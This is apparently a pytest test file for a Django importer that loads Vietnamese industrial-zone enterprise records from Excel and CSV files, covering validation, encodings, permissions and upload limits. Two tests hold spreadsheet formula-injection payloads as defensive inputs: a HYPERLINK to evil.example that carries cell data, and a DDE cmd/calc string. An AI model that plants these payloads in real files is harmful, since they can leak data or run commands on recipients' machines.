"""Importing enterprises: real .xlsx and .csv files, the demo board, the page, the command."""

import csv
import io
import random
import unicodedata

import openpyxl
import pytest
import xlsxwriter
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from kcn.core.choices import JobStatus
from kcn.core.importers import run_import
from kcn.core.models import ImportJob
from kcn.registry.choices import EnterpriseStatus
from kcn.registry.demo import demo_tax_codes
from kcn.registry.importers import COLUMNS, EnterpriseImporter, tax_code_is_valid_10, template_xlsx
from kcn.registry.models import Enterprise, Zone
from kcn.registry.validators import tax_code_error

HEADER = ["Mã số thuế", "Tên doanh nghiệp", "Tên nước ngoài", "Mã KCN", "Ngành (VSIC)", "Quốc gia nhà đầu tư",
          "Số lao động", "Người đại diện theo pháp luật", "Điện thoại", "Thư điện tử", "Zalo", "Địa chỉ",
          "Trạng thái"]
TAX, NAME, ZONE = 0, 1, 3


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def codes(count, seed=2026):
    """Valid tax codes that the demo (prefix 07) never uses."""
    return demo_tax_codes(random.Random(seed), count, prefix="09")


def row(tax_code, name="Công ty TNHH Hòa Bình Điện tử", zone="HNA-CS", **overrides):
    values = [tax_code, name, "Hoa Binh Electronics Co., Ltd", zone, "26", "Hàn Quốc", 250, "Nguyễn Văn An",
              "02263123456", "lienhe@hoabinh.vn", "0912345678", "Lô A1, KCN Châu Sơn", "Đang hoạt động"]
    for key, value in overrides.items():
        values[HEADER.index(key)] = value
    return values


def xlsx_file(path, rows, header=HEADER, header_row=1, formulas=()):
    workbook = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False})
    sheet = workbook.add_worksheet("Doanh nghiệp")
    for col, text in enumerate(header):
        sheet.write_string(header_row - 1, col, text)
    for offset, values in enumerate(rows, start=header_row):
        for col, value in enumerate(values):
            if isinstance(value, int | float):
                sheet.write_number(offset, col, value)
            elif value:
                sheet.write_string(offset, col, value)
    for row_number, col, formula in formulas:
        sheet.write_formula(row_number - 1, col, formula)
    workbook.close()
    return path


def csv_bytes(rows, header=HEADER, encoding="utf-8-sig", delimiter=","):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(header)
    writer.writerows([["" if v is None else str(v) for v in values] for values in rows])
    text = buffer.getvalue()
    if encoding == "cp1258":
        return to_cp1258(text)
    return text.encode(encoding)


def to_cp1258(text):
    """What Excel writes for "CSV" on a Vietnamese Windows: the base letter, then the tone mark."""
    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    out = bytearray()
    for char in text:
        try:
            out += char.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in tones))
        out += base.encode("cp1258") + "".join(p for p in parts if p in tones).encode("cp1258")
    return bytes(out)


def run(user, path=None, data=None, name=None):
    name = name or (path.name if path else "tep.csv")
    file = open(path, "rb") if path else io.BytesIO(data)  # noqa: SIM115 - closed below
    try:
        return run_import(importer=EnterpriseImporter(user=user), file=file, file_name=name)
    finally:
        file.close()


def errors_by_row(result):
    found = {}
    for error in result.errors.sorted():
        found.setdefault(error.row, []).append(error)
    return found


# --- Good files


def test_good_xlsx_creates_enterprises_with_history_by_the_importer(demo, user_named, login, tmp_path):
    canbo = user_named("canbo")
    first, second = codes(2)
    path = xlsx_file(tmp_path / "doanh-nghiep.xlsx", [
        row(first),
        row(second, name="Công ty TNHH Sungwoo Linh kiện Việt Nam", zone="HNA-TL", **{
            "Quốc gia nhà đầu tư": "KR", "Trạng thái": "construction", "Số lao động": "1.200",
            "Ngành (VSIC)": "29", "Điện thoại": "+84 912 345 678", "Zalo": 912345678}),
    ])
    before = Enterprise.objects.count()

    result = run(canbo, path)

    assert result.ok, result.errors.stored()
    assert result.created == 2 and result.message == "Đã thêm 2 doanh nghiệp."
    assert Enterprise.objects.count() == before + 2
    one = Enterprise.objects.get(tax_code=first)
    assert (one.name, one.zone.code, one.sector, one.investor_country.code, one.workforce, one.status) == (
        "Công ty TNHH Hòa Bình Điện tử", "HNA-CS", "26", "KR", 250, EnterpriseStatus.OPERATING)
    two = Enterprise.objects.get(tax_code=second)
    assert (two.zone.code, two.status, two.workforce, two.sector, two.phone, two.zalo) == (
        "HNA-TL", EnterpriseStatus.CONSTRUCTION, 1200, "29", "+84912345678", "0912345678")
    assert two.created_at is not None and two.updated_at is not None
    for enterprise in (one, two):
        record = enterprise.history.get()
        assert record.history_type == "+"
        assert record.history_user == canbo
        assert record.history_change_reason == "Nhập từ tệp doanh-nghiep.xlsx"
        assert record.name == enterprise.name and record.zone_id == enterprise.zone_id
    page = login("canbo").get(reverse("registry:enterprise_detail", args=[one.pk]))
    assert page.status_code == 200
    history = page.content.decode().split('id="history"')[1]
    assert "Tạo mới" in history and "Vũ Đức Anh" in history and "Nhập từ tệp doanh-nghiep.xlsx" in history


def test_the_save_uses_copy_on_postgresql(demo, user_named, tmp_path, django_assert_max_num_queries):
    # One query per lookup and a handful for the save, however many rows: nothing per row.
    path = xlsx_file(tmp_path / "nhieu.xlsx", [row(code, name=f"Công ty {i}") for i, code in enumerate(codes(300))])
    with django_assert_max_num_queries(20) as captured:
        result = run(user_named("admin"), path)
    assert result.ok and result.created == 300
    sql = " ".join(query["sql"] for query in captured.captured_queries)
    if connection.vendor == "postgresql":
        assert "nextval" in sql
        assert "INSERT INTO" not in sql.replace('"core_importjob"', "")
    assert Enterprise.history.filter(history_change_reason="Nhập từ tệp nhieu.xlsx").count() == 300


def test_headers_match_without_diacritics_and_by_code_name(demo, user_named, tmp_path):
    header = ["MA SO THUE", "ten doanh nghiep", "zone", "Sector", "investor_country", "STT"]
    code = codes(1)[0]
    path = xlsx_file(tmp_path / "english.xlsx", [[code, "Công ty TNHH An Phát", "hna-dv2", "C10", "Japan", 1]],
                     header=header)
    result = run(user_named("admin"), path)
    assert result.ok, result.errors.stored()
    enterprise = Enterprise.objects.get(tax_code=code)
    assert (enterprise.zone.code, enterprise.sector, enterprise.investor_country.code) == ("HNA-DV2", "10", "JP")


def test_numbers_that_lost_their_leading_zero_are_restored(demo, user_named, tmp_path):
    code = codes(1)[0]
    path = xlsx_file(tmp_path / "so.xlsx", [row(int(code), **{"Điện thoại": 2263123456})])
    result = run(user_named("admin"), path)
    assert result.ok, result.errors.stored()
    assert Enterprise.objects.get(tax_code=code).phone == "02263123456"


# --- Errors: nothing is saved, every error is reported where the user sees it


def test_a_file_with_errors_saves_nothing_and_reports_each_cell(demo, user_named, tmp_path):
    canbo = user_named("canbo")
    good, duplicate, unknown_zone_code, wrong_digit_base = codes(4)
    wrong_digit = wrong_digit_base[:9] + str((int(wrong_digit_base[9]) + 1) % 10)
    existing = Enterprise.objects.order_by("tax_code").first().tax_code
    path = xlsx_file(tmp_path / "loi.xlsx", [
        row(good),                                   # row 2: fine
        row(wrong_digit),                            # row 3: wrong check digit
        row(unknown_zone_code, zone="HNA-ZZ9"),      # row 4: no such zone
        row(duplicate),                              # row 5
        row(duplicate, name="Công ty trùng"),        # row 6: same tax code as row 5
        row(existing),                               # row 7: already registered
        row(codes(5)[4], name="", **{"Số lao động": -5, "Thư điện tử": "khong-phai-email",
                                     "Ngành (VSIC)": "77", "Quốc gia nhà đầu tư": "Atlantis",
                                     "Trạng thái": "đang bay"}),  # row 8
    ])
    before = (Enterprise.objects.count(), Enterprise.history.count())

    result = run(canbo, path)

    assert not result.ok
    assert (Enterprise.objects.count(), Enterprise.history.count()) == before
    found = errors_by_row(result)
    assert 2 not in found
    assert [(e.column, e.message) for e in found[3]] == [
        ("Mã số thuế", "Mã số thuế sai chữ số kiểm tra (chữ số thứ 10).")]
    assert [(e.column, e.value, e.message) for e in found[4]] == [
        ("Mã KCN", "HNA-ZZ9", "Không tìm thấy khu công nghiệp mã HNA-ZZ9.")]
    assert 5 not in found
    assert [(e.column, e.message) for e in found[6]] == [
        ("Mã số thuế", f"Mã số thuế {duplicate} bị trùng trong tệp: dòng 5 và dòng 6.")]
    assert [e.column for e in found[7]] == ["Mã số thuế"]
    assert existing in found[7][0].message and "đã có trong hệ thống" in found[7][0].message
    assert [e.column for e in found[8]] == ["Tên doanh nghiệp", "Ngành (VSIC)", "Quốc gia nhà đầu tư",
                                            "Số lao động", "Thư điện tử", "Trạng thái"]
    assert result.message.startswith("Tệp có 10 lỗi nên không dòng nào được lưu.")


def test_an_officer_cannot_import_into_a_zone_of_another_department(demo, user_named, tmp_path):
    # canbo works in QLMT, which monitors HNA-CS and HNA-TL only.
    inside, outside, unknown = codes(3)
    path = xlsx_file(tmp_path / "pham-vi.xlsx", [row(inside), row(outside, zone="HNA-DV2"),
                                                 row(unknown, zone="HNA-ZZ9")])
    result = run(user_named("canbo"), path)
    assert not result.ok
    found = errors_by_row(result)
    assert found[3][0].message == "Không tìm thấy khu công nghiệp mã HNA-DV2."
    # Out of scope reads exactly like "does not exist", so zones cannot be probed.
    assert found[3][0].message.replace("HNA-DV2", "X") == found[4][0].message.replace("HNA-ZZ9", "X")
    assert not Enterprise.objects.filter(tax_code=inside).exists()


def test_formulas_are_refused_not_stripped(demo, user_named, tmp_path):
    first, second, third = codes(3)
    path = xlsx_file(tmp_path / "cong-thuc.xlsx", [
        row(first, name='=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'),
        row(second),
        row(third, **{"Địa chỉ": "@SUM(1+1)*cmd|' /C calc'!A0"}),
    ], formulas=[(3, NAME, '=HYPERLINK("http://evil.example","Công ty")')])
    result = run(user_named("admin"), path)
    assert not result.ok
    found = errors_by_row(result)
    assert [e.column for e in found[2]] == ["Tên doanh nghiệp"]
    assert found[2][0].value.startswith("=HYPERLINK(") and "công thức" in found[2][0].message
    # A real formula cell: calamine reads only its cached result; the sheet XML gives it away.
    assert [e.column for e in found[3]] == ["Tên doanh nghiệp"]
    assert found[3][0].value == '=HYPERLINK("http://evil.example","Công ty")'
    assert [e.column for e in found[4]] == ["Địa chỉ"] and "công thức" in found[4][0].message
    assert not Enterprise.objects.filter(tax_code__in=[first, second, third]).exists()


def test_csv_formula_is_refused_but_international_phone_is_not(demo, user_named):
    first, second = codes(2)
    data = csv_bytes([row(first, name='=HYPERLINK("http://evil.example","x")'),
                      row(second, **{"Điện thoại": "+84 226 312 3456"})])
    result = run(user_named("admin"), data=data, name="cong-thuc.csv")
    assert [(e.row, e.column) for e in result.errors.sorted()] == [(2, "Tên doanh nghiệp")]
    assert "công thức" in result.errors.sorted()[0].message


def test_missing_required_column_is_one_clear_error(demo, user_named, tmp_path):
    header = [h for h in HEADER if h != "Mã KCN"]
    path = xlsx_file(tmp_path / "thieu.xlsx", [row(codes(1)[0])[:3] + row(codes(1)[0])[4:]], header=header)
    result = run(user_named("admin"), path)
    assert [(e.row, e.message) for e in result.errors.sorted()] == [
        (1, "Thiếu cột bắt buộc: Mã KCN. Hãy dùng dòng tiêu đề của tệp mẫu.")]


# --- CSV encodings


def test_csv_in_windows_1258_gives_the_right_vietnamese_names(demo, user_named):
    code = codes(1)[0]
    name = "Công ty Cổ phần Thực phẩm Hưng Thịnh Đồng Văn"
    data = csv_bytes([row(code, name=name, **{"Người đại diện theo pháp luật": "Nguyễn Thị Ngọc Diệp",
                                              "Trạng thái": "Tạm ngừng hoạt động"})], encoding="cp1258")
    assert name.encode("utf-8") not in data  # really cp1258, tone marks combining
    result = run(user_named("admin"), data=data, name="cp1258.csv")
    assert result.ok, result.errors.stored()
    enterprise = Enterprise.objects.get(tax_code=code)
    assert enterprise.name == name and unicodedata.is_normalized("NFC", enterprise.name)
    assert enterprise.legal_representative == "Nguyễn Thị Ngọc Diệp"
    assert enterprise.status == EnterpriseStatus.SUSPENDED


def test_csv_with_byte_order_mark_and_semicolons(demo, user_named):
    code = codes(1)[0]
    data = csv_bytes([row(code)], encoding="utf-8-sig", delimiter=";")
    assert data.startswith(b"\xef\xbb\xbf")
    result = run(user_named("admin"), data=data, name="bom.csv")
    assert result.ok, result.errors.stored()
    assert Enterprise.objects.get(tax_code=code).name == "Công ty TNHH Hòa Bình Điện tử"


# --- The page


def test_import_page_only_for_roles_that_may_import(demo, login):
    url = reverse("registry:enterprise_import")
    page = login("canbo").get(url)
    assert page.status_code == 200
    html = page.content.decode()
    for needle in ('id="id_file"', 'id="upload-button"', "/import/template.xlsx", "/import/template.csv",
                   "Tệp có lỗi sẽ không được lưu dòng nào"):
        assert needle in html
    for username in ("quansat", "doanhnghiep", "giangvien"):
        assert login(username).get(url).status_code == 404
        assert login(username).get(reverse("registry:enterprise_import_template", args=["xlsx"])).status_code == 404


def test_templates_list_only_the_users_zones_and_import_as_they_are(demo, login, user_named):
    client = login("canbo")
    response = client.get(reverse("registry:enterprise_import_template", args=["xlsx"]))
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Doanh nghiệp", "Hướng dẫn"]
    header = [cell.value for cell in workbook["Doanh nghiệp"][1]]
    assert header == [str(column.header) for column in COLUMNS]
    guide = " ".join(str(cell.value) for r in workbook["Hướng dẫn"].iter_rows() for cell in r if cell.value)
    assert "HNA-CS" in guide and "HNA-TL" in guide and "HNA-DV2" not in guide
    assert "26 – Sản xuất sản phẩm điện tử" in guide and "Đang xây dựng nhà xưởng" in guide
    assert "Tệp có lỗi sẽ không được lưu dòng nào" in guide
    csv_response = client.get(reverse("registry:enterprise_import_template", args=["csv"]))
    assert csv_response.content.startswith(b"\xef\xbb\xbf")
    assert client.get(reverse("registry:enterprise_import_template", args=["pdf"])).status_code == 404
    # The template with its example row imports as it is: the example is valid.
    for fmt, content in (("xlsx", response.content), ("csv", csv_response.content)):
        Enterprise.objects.filter(name="Công ty TNHH Ví Dụ Việt Nam").delete()
        result = run(user_named("canbo"), data=content, name=f"mau.{fmt}")
        assert result.ok and result.created == 1, (fmt, result.errors.stored())


def test_upload_runs_the_job_and_the_job_page_shows_the_result(demo, login, user_named, tmp_path):
    client = login("canbo")
    first, second = codes(2)
    path = xlsx_file(tmp_path / "tot.xlsx", [row(first), row(second, zone="HNA-TL")])
    with open(path, "rb") as upload:
        response = client.post(reverse("registry:enterprise_import"), {"file": upload})
    job = ImportJob.objects.get(created_by=user_named("canbo"))
    assert response.status_code == 302 and response["Location"] == reverse("core:job", args=[job.pk])
    assert (job.status, job.created_rows, job.total_rows, job.processed_rows) == (JobStatus.DONE, 2, 2, 2)
    assert job.file.name.startswith("imports/") and job.finished_at is not None
    page = client.get(response["Location"])
    assert 'data-status="done"' in page.content.decode() and "Đã thêm 2 doanh nghiệp." in page.content.decode()
    # htmx polls the same URL for the progress fragment.
    fragment = client.get(response["Location"], headers={"HX-Request": "true"}).content.decode()
    assert 'id="job-status"' in fragment and "2/2" in fragment
    # Another user cannot see the job.
    assert login("canbo.dautu").get(response["Location"]).status_code == 404


def test_upload_with_errors_fails_the_job_and_lists_the_errors(demo, login, tmp_path):
    client = login("canbo")
    first, second = codes(2)
    path = xlsx_file(tmp_path / "loi.xlsx", [row(first), row(second, zone="HNA-DV2")])
    with open(path, "rb") as upload:
        response = client.post(reverse("registry:enterprise_import"), {"file": upload}, follow=True)
    html = response.content.decode()
    assert 'data-status="failed"' in html and 'id="import-errors"' in html
    assert "Không tìm thấy khu công nghiệp mã HNA-DV2." in html and "<td>3</td>" in html
    assert "KCN Đồng Văn II" not in html.split('id="import-errors"')[1]
    assert not Enterprise.objects.filter(tax_code__in=[first, second]).exists()


def test_a_refused_upload_creates_no_job(demo, login, tmp_path, settings):
    client = login("canbo")
    fake = tmp_path / "bao-cao.xlsx"
    fake.write_bytes(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n")
    with open(fake, "rb") as upload:
        response = client.post(reverse("registry:enterprise_import"), {"file": upload})
    assert response.status_code == 400
    assert "không phải tệp Excel .xlsx thật" in response.content.decode()
    settings.KCN_MAX_UPLOAD_BYTES = 1000
    big = xlsx_file(tmp_path / "lon.xlsx", [row(code) for code in codes(50)])
    with open(big, "rb") as upload:
        response = client.post(reverse("registry:enterprise_import"), {"file": upload})
    assert response.status_code == 400 and "Tệp quá lớn" in response.content.decode()
    assert not ImportJob.objects.exists()


# --- The command


def test_command_imports_and_reports(demo, tmp_path):
    path = xlsx_file(tmp_path / "lenh.xlsx", [row(code, zone="HNA-DV2") for code in codes(3)])
    out = io.StringIO()
    call_command("import", "enterprises", str(path), stdout=out)
    assert "3 enterprises imported" in out.getvalue()
    assert Enterprise.objects.filter(tax_code__in=codes(3)).count() == 3
    job = ImportJob.objects.get(file_name="lenh.xlsx")
    assert job.status == JobStatus.DONE and job.created_by.username == "admin"


def test_command_fails_with_the_error_list_and_applies_the_users_scope(demo, tmp_path):
    path = xlsx_file(tmp_path / "lenh.xlsx", [row(code, zone="HNA-DV2") for code in codes(2)])
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError):
        call_command("import", "enterprises", str(path), "--user", "canbo", stdout=out, stderr=err)
    assert "row 2\tMã KCN\t'HNA-DV2'\tKhông tìm thấy khu công nghiệp mã HNA-DV2." in err.getvalue()
    assert "row 3\t" in err.getvalue()
    assert not Enterprise.objects.filter(tax_code__in=codes(2)).exists()
    assert ImportJob.objects.get(file_name="lenh.xlsx").status == JobStatus.FAILED


def test_command_refuses_users_who_may_not_import(demo, tmp_path):
    path = xlsx_file(tmp_path / "lenh.xlsx", [row(codes(1)[0])])
    with pytest.raises(CommandError, match="không có quyền"):
        call_command("import", "enterprises", str(path), "--user", "quansat", stdout=io.StringIO(),
                     stderr=io.StringIO())


def test_guide_sheet_is_built_for_users_without_zones(demo, user_named):
    # An admin sees every zone; the guide lists all seven.
    content = template_xlsx(user=user_named("admin"))
    guide = openpyxl.load_workbook(io.BytesIO(content))["Hướng dẫn"]
    texts = {str(cell.value) for r in guide.iter_rows() for cell in r if cell.value}
    assert set(Zone.objects.values_list("code", flat=True)) <= texts


def test_an_error_after_rows_were_streamed_still_saves_nothing(demo, user_named, tmp_path):
    # On PostgreSQL the first chunks are already sent by COPY when row 2,400 turns out wrong.
    many = codes(2500, seed=7)
    rows = [row(code, name=f"Công ty TNHH Số {i}") for i, code in enumerate(many)]
    rows[2398] = row(many[2398], zone="HNA-ZZ9")
    before = (Enterprise.objects.count(), Enterprise.history.count())
    result = run(user_named("admin"), xlsx_file(tmp_path / "muon.xlsx", rows))
    assert not result.ok and [(e.row, e.column) for e in result.errors.sorted()] == [(2400, "Mã KCN")]
    assert (Enterprise.objects.count(), Enterprise.history.count()) == before


def test_text_with_tabs_newlines_and_backslashes_is_saved_as_written(demo, user_named, tmp_path):
    code = codes(1)[0]
    address = "Lô A1\\B2,\tđường số 3\nKCN Châu Sơn \\N"
    result = run(user_named("admin"), xlsx_file(tmp_path / "ky-tu.xlsx", [row(code, **{"Địa chỉ": address})]))
    assert result.ok, result.errors.stored()
    enterprise = Enterprise.objects.get(tax_code=code)
    assert enterprise.address == address.strip()
    assert enterprise.history.get().address == address.strip()


@given(st.text(alphabet="0123456789", min_size=10, max_size=10))
def test_the_fast_tax_code_check_agrees_with_the_validator(text):
    assert tax_code_is_valid_10(text) == (tax_code_error(text) is None)


class _LateImporter(EnterpriseImporter):
    """Someone registers a tax code of the file after it was checked, before it is saved."""

    def precheck(self, column):
        super().precheck(column)
        self.existing = set()


def test_a_tax_code_registered_meanwhile_rolls_the_import_back(demo, user_named, tmp_path):
    first, second = codes(2)
    existing = Enterprise.objects.order_by("tax_code").first().tax_code
    path = xlsx_file(tmp_path / "dua.xlsx", [row(first), row(existing), row(second)])
    before = (Enterprise.objects.count(), Enterprise.history.count())
    with open(path, "rb") as file:
        result = run_import(importer=_LateImporter(user=user_named("admin")), file=file, file_name="dua.xlsx")
    assert not result.ok and "người khác vừa thêm dữ liệu trùng" in result.message
    assert (Enterprise.objects.count(), Enterprise.history.count()) == before


def test_an_oversized_upload_is_stopped_while_it_arrives(demo, login, tmp_path, settings):
    # 3 MB against a 200 kB limit: SizeLimitUploadHandler stops reading the file at the limit, so
    # the message has no size (the view never saw the whole file) and nothing was stored.
    settings.KCN_MAX_UPLOAD_BYTES = 200 * 1024
    big = tmp_path / "rat-lon.csv"
    big.write_bytes(b"Ma so thue,Ten\n" + b"0100109106,Cong ty\n" * 160_000)
    with open(big, "rb") as upload:
        response = login("canbo").post(reverse("registry:enterprise_import"), {"file": upload})
    body = response.content.decode()
    assert response.status_code == 400
    assert "Tệp quá lớn. Dung lượng tối đa là 200,0" in body or "Tệp quá lớn. Dung lượng tối đa là 200.0" in body
    assert not ImportJob.objects.exists()
